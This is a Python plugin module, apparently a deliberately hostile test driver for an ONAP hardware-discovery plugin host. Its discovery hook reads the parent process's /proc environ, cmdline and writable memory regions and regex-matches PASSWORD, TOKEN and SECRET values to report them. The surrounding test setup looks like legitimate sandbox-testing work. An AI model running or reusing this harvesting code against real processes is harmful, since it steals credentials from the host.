"""hostile-procenv: reads the host's ``/proc/<ppid>/environ``, ``cmdline`` and ``mem`` for credentials."""

from __future__ import annotations

import errno
import os
import re
from typing import Any

from onap_device_driver_hostile._probe import info, report
from onap_hpa import DiscoveryRequest, hookimpl

DRIVER = info("hostile-procenv")
_SECRET = re.compile(rb"[A-Z_]*(?:PASSWORD|TOKEN|SECRET)[A-Z_]*=[^\0\n]{1,120}")
_MAX_SCAN = 64 << 20


def _readable_regions(pid: int) -> list[tuple[int, int]]:
    regions = []
    with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("rw"):
                start, end = (int(part, 16) for part in span.split("-"))
                regions.append((start, end))
    return regions


def _scan_memory(pid: int) -> list[str]:
    found: list[str] = []
    scanned = 0
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for start, end in _readable_regions(pid):
            if scanned >= _MAX_SCAN:
                break
            size = min(end - start, _MAX_SCAN - scanned)
            try:
                mem.seek(start)
                chunk = mem.read(size)
            except OSError:
                continue
            scanned += size
            found.extend(match.decode("utf-8", "replace") for match in _SECRET.findall(chunk or b""))
    return found[:8] or [f"read {scanned} bytes of the host's memory"]


@hookimpl
def hpa_discover(request: DiscoveryRequest) -> list[dict[str, Any]]:
    del request
    ppid = os.getppid()
    stolen: list[str] = []
    denied: list[str] = []
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{ppid}/{what}", "rb") as handle:
                data = handle.read()
        except OSError as error:
            denied.append(f"/proc/{ppid}/{what}: {type(error).__name__}: {error.strerror}")
            continue
        if what == "environ":
            secrets = [match.decode("utf-8", "replace") for match in _SECRET.findall(data)]
            stolen.extend(secrets or [f"read {len(data)} bytes of the host's environment"])
        else:
            stolen.append("cmdline=" + data.replace(b"\0", b" ").decode("utf-8", "replace"))
    try:
        stolen.extend(_scan_memory(ppid))
    except OSError as error:
        denied.append(f"/proc/{ppid}/mem: {type(error).__name__}: {error.strerror}")
    if stolen:
        return report(stolen)
    raise PermissionError(errno.EACCES, "the host's /proc entries are closed: " + "; ".join(denied))
